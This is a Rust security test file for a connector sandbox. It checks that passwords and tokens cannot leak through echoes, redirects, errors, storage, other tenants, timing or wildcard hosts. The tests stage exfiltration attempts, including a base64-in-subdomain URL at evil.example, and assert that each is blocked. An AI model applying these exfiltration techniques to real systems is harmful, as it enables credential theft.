//! A secret is in nobody's hands but the host's and the platform's (HC-58 to HC-68).
//!
//! A password and a live token are used in every placement, against a server that repeats them in every encoding. The
//! connector searches its own memory for them and carries all it saw out by every way there is; then everything is looked at
//! that came out, and everything that the host said meanwhile, at the most talkative level.

use std::fmt::Debug;
use std::time::Duration;

use anyhow::{Context as _, bail, ensure};
use tradepost_runtime::contract::AccountIdentity;
use tradepost_runtime::{AccountConfig, CallError, Connector, Grants, Limits, Reply, Runtime, Storage as _};

use super::egress::Script;
use crate::arena::Arena;
use crate::canary::{PASSWORD, SECRETS, TOKEN, clean};
use crate::case::{Case, MustFail as _, Outcome, attack, ensure_eq};
use crate::forms::{Form, forms, found_in, masked};
use crate::manifest_image::ManifestImage;
use crate::stage::{ATTACKER, spacious, tight};
use crate::{CoreModule, EvilAccount, Server, Stage};

/// What is expected of most of them.
const CLEAN: &str =
    "found nowhere: not in the connector's memory, its results, the log, storage or other hosts' requests";

pub(super) const CASES: &[Case] = &[
    Case::starred(
        "HC-58",
        "the platform repeats the credential in bodies, in every encoding",
        CLEAN,
        attack!(echoed_in_bodies),
    ),
    Case::starred("HC-59", "the platform repeats the credential in headers", CLEAN, attack!(echoed_in_headers)),
    Case::starred("HC-60", "a secret's name in the URL", "sent as it stands, not replaced", attack!(placeholders)),
    Case::starred("HC-61", "a secret's name in the body", "sent as it stands, not replaced", attack!(placeholders)),
    Case::starred("HC-62", "the credential for another granted host", "refused", attack!(other_host)),
    Case::starred(
        "HC-63",
        "a redirect to another host, with the token in a header of its own",
        "not followed: the header never leaves",
        attack!(redirected_token),
    ),
    Case::starred(
        "HC-64",
        "everything the connector saw, told to log, storage, results and another host",
        CLEAN,
        attack!(everything_told),
    ),
    Case::starred(
        "HC-65",
        "errors, traps and broken answers while authenticating",
        "no secret in any error, shown or as Debug, nor in the log at its most talkative",
        attack!(endings, failures_told, refused_login, settings_errors),
    ),
    Case::starred(
        "HC-66",
        "one tenant's secret with another's account",
        "cannot be named: a secret belongs to the account it is opened with",
        attack!(other_tenant),
    ),
    Case::plain(
        "HC-67",
        "time measured finely, for a look at others' secrets",
        "a clock of 1 ms or coarser, that stands still within a call",
        attack!(fine_clock),
    ),
    Case::plain(
        "HC-68",
        "a wildcard host, to carry secrets out in names",
        "there are no wildcards; a name is asked for only where it is granted exactly",
        attack!(wildcards),
    ),
];

/// The host's own name, which the server repeats: text that is not secret and arrives in the guest's memory: the search must find it, or it finds nothing.
const MARKER: &str = "tradepost/0.1.0";

fn error_clean(place: &str, error: &CallError) -> anyhow::Result<()> {
    clean(place, error.to_string().as_bytes())?;
    clean(place, format!("{error:?}").as_bytes())?;
    clean(place, format!("{error:#?}").as_bytes())
}

/// Every way to authenticate, and which of the secrets the server gets to see.
const WAYS: [(&str, bool); 4] = [("basic", false), ("login", true), ("login-in-body", true), ("query", false)];

/// Time and memory enough to search all memory for every form.
fn searching() -> Limits {
    Limits { cpu: Duration::from_secs(60), wall: Duration::from_secs(120), ..spacious() }
}

struct Trap<'s> {
    stage: &'s Stage,
    connector: &'s Connector,
    platform: Server,
    elsewhere: Server,
}

async fn set_trap<'s>(arena: &Arena, (stage, connector): &'s (Stage, Connector)) -> Trap<'s> {
    Trap { stage, connector, platform: Server::giving_token(TOKEN).await, elsewhere: arena.stranger().await }
}

impl Trap<'_> {
    fn account(&self, case: &str, way: &str) -> EvilAccount {
        let account = EvilAccount::new(case).at(&self.platform).and(&self.elsewhere);
        let patterns = [SECRETS.clone(), vec![Form { name: "marker", bytes: MARKER.into() }]].concat();
        EvilAccount { auth: Some(way.into()), ..account.with("masked", masked(&patterns)) }
    }

    /// The platform did get the secret: otherwise nothing that follows proves anything.
    fn platform_was_sent_a_secret(&self, way: &str, token: bool) -> anyhow::Result<()> {
        let expected = forms(if token { TOKEN } else { PASSWORD });
        let basic = forms(&format!("mallory:{PASSWORD}"));
        let sent = self.platform.seen().iter().any(|seen| {
            let text = seen.text();
            !found_in(&expected, text.as_bytes()).is_empty() || !found_in(&basic, text.as_bytes()).is_empty()
        });
        ensure!(sent, "{way}: the platform was never sent the credential");
        Ok(())
    }

    async fn nobody_else_has_one(&self, way: &str) -> anyhow::Result<()> {
        for seen in self.elsewhere.seen() {
            clean(&format!("{way}: a request to another host"), seen.text().as_bytes())?;
        }
        for key in self.stage.storage.list(ATTACKER, "", None, 1000).await? {
            clean(&format!("{way}: a key in storage"), key.as_bytes())?;
            let value = self.stage.storage.get(ATTACKER, &key).await?;
            clean(&format!("{way}: a value in storage"), &value.unwrap_or_default())?;
        }
        Ok(())
    }
}

/// Everything in one value, as its `Debug` shows it and without the escapes that would hide a form.
fn shown(value: &impl Debug) -> Vec<u8> {
    format!("{value:?}").into_bytes()
}

/// What one account of each kind came to: the case `canary` of the evil connector, and everything that it carried out.
async fn gathered(arena: &Arena, paths: &str, look: fn(&Reply<AccountIdentity>) -> anyhow::Result<()>) -> Outcome {
    let place = arena.evil(searching()).await?;
    for (way, token) in WAYS {
        let trap = set_trap(arena, &place).await;
        let account = trap.account("canary", way).with("paths", paths).open(trap.stage, trap.connector)?;
        let reply = trap.stage.during(account.check()).await.result.with_context(|| way)?;
        trap.platform_was_sent_a_secret(way, token)?;

        let count = |index: usize| {
            let name = format!("found {index}");
            let fact = reply.value.facts.iter().find(|(present, _)| *present == name);
            fact.and_then(|(_, count)| count.parse::<usize>().ok()).context("each pattern is counted")
        };
        for (index, form) in SECRETS.iter().enumerate() {
            ensure_eq!(count(index)?, 0, "{way}: the connector's memory holds a secret ({})", form.name);
        }
        ensure!(count(SECRETS.len())? > 0, "{way}: the search does not find what is there");

        for (name, value) in &reply.value.facts {
            clean(&format!("{way}: a result"), format!("{name} {value}").as_bytes())?;
        }
        clean(&format!("{way}: the reply as shown"), &shown(&reply))?;
        for line in &reply.log {
            clean(&format!("{way}: a log line"), format!("{} {:?}", line.message, line.fields).as_bytes())?;
        }
        let redacted = reply.value.facts.iter().any(|(_, value)| value.contains("[redacted]"));
        ensure!(redacted, "{way}: echoes do not arrive redacted");
        look(&reply).context(way)?;
        reply.commit().await?;
        trap.nobody_else_has_one(way).await?;
        clean("the account as shown", &shown(&account))?;
        clean("the runtime as shown", &shown(&trap.stage.runtime))?;
    }
    Ok(format!("{} ways to authenticate, {} forms of two secrets: clean", WAYS.len(), SECRETS.len()))
}

async fn echoed_in_bodies(arena: &Arena) -> Outcome {
    gathered(arena, "/echo?q=1,/echo-fails,/echo-broken,/echo-encoded", |_| Ok(())).await
}

async fn echoed_in_headers(arena: &Arena) -> Outcome {
    gathered(arena, "/echo-redirects,/echo-in-headers", |_| Ok(())).await
}

async fn everything_told(arena: &Arena) -> Outcome {
    gathered(arena, "/echo?q=1,/echo-fails,/echo-redirects,/echo-broken,/echo-in-headers,/echo-encoded", |reply| {
        ensure!(!reply.writes.writes.is_empty() && !reply.log.is_empty(), "the connector did not tell what it saw");
        Ok(())
    })
    .await
}

async fn endings(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    for (way, _) in WAYS {
        for ending in ["panic", "error"] {
            let trap = set_trap(arena, &place).await;
            let account = trap.account("canary", way).with("ending", ending).open(trap.stage, trap.connector)?;
            let error = trap.stage.during(account.check()).await.result.must_fail("it ends in an error")?;
            match (ending, &error) {
                ("panic", CallError::Trap { .. }) | ("error", CallError::Connector(_)) => {}
                other => bail!("{way}: {other:?}"),
            }
            error_clean(&format!("{way}: {ending}"), &error)?;
            trap.stage.nothing_stored().await?;
            trap.nobody_else_has_one(way).await?;
        }
    }
    Ok("panic and error, 4 ways to authenticate: clean".into())
}

async fn failures_told(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    let trap = set_trap(arena, &place).await;
    for (way, _) in WAYS {
        // A header and a URL that the host refuses, an answer that breaks off, a server that is gone.
        for (name, value) in [("header-name", "authorization"), ("url", "http://127.0.0.1:1/"), ("url", "/echo-broken")]
        {
            let account = trap.account("send", way).with("url", "/echo").with("header-value", "x").with(name, value);
            let findings = account.findings(trap.stage, trap.connector).await?;
            ensure!(!findings.get("error").is_empty(), "{way}: {findings:?}");
            clean(way, format!("{findings:?}").as_bytes())?;
        }
        trap.nobody_else_has_one(way).await?;
    }
    Ok("3 failures told: clean".into())
}

async fn refused_login(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    let trap = set_trap(arena, &place).await;
    // This login answers without a token and repeats the password.
    let refusing = Server::giving_token("").await;
    for way in ["login", "login-in-body"] {
        let account =
            trap.account("send", way).at(&refusing).with("method", "POST").with("url", "/echo").with("body", "{}");
        let findings = account.findings(trap.stage, trap.connector).await?;
        ensure!(findings.get("error").contains("AuthRejected"), "{way}: {findings:?}");
        clean(way, format!("{findings:?}").as_bytes())?;
        trap.nobody_else_has_one(way).await?;
    }
    ensure!(refusing.seen().iter().all(|seen| seen.target == "/login"), "nothing but the login was sent");
    Ok("a refused login: clean".into())
}

async fn settings_errors(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    let trap = set_trap(arena, &place).await;
    let mut wrong = trap.account("send", "basic");
    wrong.settings.insert("username".into(), serde_json::json!(7));
    wrong.settings.remove("case");
    wrong.settings.insert("password".into(), serde_json::json!(PASSWORD));
    let error = wrong.try_open(trap.stage, trap.connector).must_fail("three things are wrong")?;
    clean("the error", error.to_string().as_bytes())?;
    clean("the error as shown", &shown(&error))?;
    ensure!(error.to_string().contains("/password") && error.to_string().contains("/case"), "{error}");

    let unknown = EvilAccount { auth: Some("retina scan".into()), ..trap.account("send", "basic") };
    let error = unknown.try_open(trap.stage, trap.connector).must_fail("there is no such way")?;
    clean("the error", error.to_string().as_bytes())?;
    Ok("wrong settings: clean".into())
}

async fn placeholders(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    let trap = set_trap(arena, &place).await;
    for placeholder in ["{password}", "{{password}}", "%7Bpassword%7D", "${password}"] {
        let account = trap
            .account("send", "basic")
            .with("method", "POST")
            .with("url", format!("/echo?q={placeholder}"))
            .with("body", format!("{{\"p\":\"{placeholder}\"}}"))
            .with("header-name", "if-match")
            .with("header-value", placeholder);
        let findings = account.findings(trap.stage, trap.connector).await?;
        ensure_eq!(findings.get("status"), "200", "{findings:?}");
    }
    let seen = trap.platform.seen();
    ensure_eq!(seen.len(), 4);
    for request in &seen {
        let mut without_credential = request.clone();
        without_credential.headers.retain(|(name, _)| name != "authorization");
        clean("a request's own text", without_credential.text().as_bytes())?;
        ensure!(String::from_utf8_lossy(&request.body).contains("password"), "the body is sent as it was given");
    }
    ensure_eq!(seen[0].body, b"{\"p\":\"{password}\"}");
    Ok("4 spellings in URL, header and body: sent as they stand".into())
}

async fn other_host(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    // The second host is declared, granted and asked with `authenticate`: being reachable is not being trusted with the
    // account's password.
    for (way, _) in WAYS {
        let trap = set_trap(arena, &place).await;
        let account = trap
            .account("send", way)
            .with("url", format!("{}/drop", trap.elsewhere.url()))
            .with("method", "POST")
            .with("body", "{}");
        let findings = account.findings(trap.stage, trap.connector).await?;
        ensure!(findings.get("detail").contains("url layer"), "{way}: {findings:?}");
        ensure_eq!(trap.elsewhere.connections(), 0, "{way}");
        trap.nobody_else_has_one(way).await?;
    }
    Ok("4 ways to authenticate: refused, 0 connections".into())
}

async fn redirected_token(arena: &Arena) -> Outcome {
    let place = arena.evil(searching()).await?;
    let trap = set_trap(arena, &place).await;
    for status in ["301", "302", "303", "307", "308"] {
        let to = format!("/redirect/{status}?to={}/drop", trap.elsewhere.url());
        let findings = trap.account("send", "login").with("url", to).findings(trap.stage, trap.connector).await?;
        ensure_eq!(findings.get("status"), status, "{findings:?}");
    }
    trap.platform_was_sent_a_secret("login", true)?;
    ensure_eq!(trap.elsewhere.connections(), 0, "connections to where it leads");
    Ok("5 statuses with X-Auth-Token: 0 connections to the other host".into())
}

async fn other_tenant(arena: &Arena) -> Outcome {
    let (stage, connector) = arena.evil(spacious()).await?;
    let server = Server::start().await;
    let own = "an own password, nobody's canary";
    let guess = |name: &str| {
        let canary = masked(&[Form { name: "plain", bytes: PASSWORD.into() }]);
        EvilAccount::new("guess").at(&server).with("secret", name).with("own", own).with("masked", canary)
    };
    for name in ["password", "alice/evil/password", "alice/evil.password", "../alice/evil/password", "username"] {
        let mallory = EvilAccount { password: own.into(), ..guess(name) };
        let findings = mallory.findings(&stage, &connector).await?;
        let matches = findings.get("its own") == "true";
        ensure_eq!(matches, name == "password", "{name}: {findings:?}");
        ensure!(findings.get("masked") != "true", "{name} is another tenant's secret: {findings:?}");
    }
    // The control: the victim's own connector does find it.
    let victim = EvilAccount { id: "alice/evil".into(), ..guess("password") };
    let guessed = victim.findings(&stage, &connector).await?;
    ensure_eq!(guessed.get("masked"), "true", "{guessed:?}");
    Ok("5 names: only the account's own secret is ever compared".into())
}

async fn fine_clock(arena: &Arena) -> Outcome {
    let (stage, connector) = arena.evil(Limits { cpu: Duration::from_secs(10), ..tight() }).await?;
    let findings = EvilAccount::new("clock").findings(&stage, &connector).await?;
    let smallest: u64 = findings.get("smallest step").parse().context("a step in nanoseconds")?;
    let steps = findings.get("steps");
    ensure!(
        smallest == 0 || smallest >= 1_000_000,
        "the monotonic clock moves in steps of {smallest} ns while the connector computes ({steps} steps in 50,000 looks); \
         wall clock: {}",
        findings.get("wall")
    );
    Ok(format!("{steps} steps in 50,000 looks, the smallest {smallest} ns; wall clock: {}", findings.get("wall")))
}

async fn wildcards(arena: &Arena) -> Outcome {
    let stage = arena.stage(tight()).await?;
    let mut refused = 0;
    for host in ["https://*.evil.example", "https://*", "*", "https://evil.*"] {
        ensure!(host.parse::<tradepost_runtime::Origin>().is_err(), "{host:?} can be granted");
        let manifest =
            ManifestImage { hosts: vec!["https://shop.example".into(), host.into()], ..ManifestImage::default() };
        let module = CoreModule { manifest, ..CoreModule::default() };
        let outcome = match stage.during(stage.runtime.load(module.component())).await.result {
            Err(_) => true,
            Ok(connector) => {
                let grants = Grants { hosts: vec!["https://shop.example".parse()?], ..Grants::default() };
                let config = AccountConfig { id: ATTACKER.into(), grants, ..AccountConfig::default() };
                stage.runtime.open(&connector, config, stage.storage.clone()).is_err()
            }
        };
        ensure!(outcome, "an account opens on a manifest that asks for {host:?}");
        refused += 1;
    }
    let (egress, script) = Script::default().egress()?;
    let stage = arena.stage_with(Runtime::builder().limits(spacious()).egress(egress)).await?;
    let evil = stage.load_evil().await?;
    let account = EvilAccount::new("send").with("url", "https://c2VjcmV0.evil.example/").with("anonymous", "yes");
    let findings = account.findings(&stage, &evil).await?;
    ensure!(findings.get("detail").contains("manifest layer"), "{findings:?}");
    ensure_eq!(script.lookups(), 0, "lookups of a name that is not granted");
    Ok(format!("{refused} wildcards refused; a name that is not granted is never looked up"))
}
